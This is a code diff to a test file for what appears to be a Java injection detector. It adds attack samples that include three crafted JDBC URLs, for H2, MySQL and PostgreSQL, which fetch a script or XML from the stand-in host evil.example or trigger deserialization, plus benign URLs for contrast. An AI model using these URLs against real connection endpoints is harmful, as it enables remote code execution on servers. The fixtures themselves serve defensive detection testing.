@@ -26,6 +26,10 @@ const attacks: [string, Partial<DetectorContext>][] = [
   ['x=\\xac\\xed\\x00\\x05', {}],
   ['java.lang.Runtime', {}],
   ['java.lang.Integer', {}], // a type name of its own, as a deserializer takes it
+  // JDBC URLs whose properties run code or read files (data-source forms, "test connection" endpoints)
+  ["jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/poc.sql'", { source: 'body', name: 'url' }],
+  ['jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor', { source: 'query', name: 'url' }],
+  ['jdbc:postgresql://db:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml', {}],
   ['java.lang.ProcessBuilder', { source: 'cookie', name: 'x' }],
   ['java.lang.Runtime', { isName: true, source: 'query' }],
   ['javax.script.ScriptEngineManager', {}],
@@ -59,6 +63,8 @@ const attacks: [string, Partial<DetectorContext>][] = [
 ];
 
 const benign: [string, Partial<DetectorContext>][] = [
+  ['jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1', { source: 'body', name: 'url' }],
+  ['jdbc:postgresql://db.example.com:5432/shop?sslmode=require', { source: 'body', name: 'jdbcUrl' }],
   ["java.lang.NullPointerException: Attempt to invoke virtual method 'java.lang.String android.content.Context.getString(int)' on a null object reference", {}],
   ['I love Java and JavaScript', {}],
   ['java lang courses', {}],
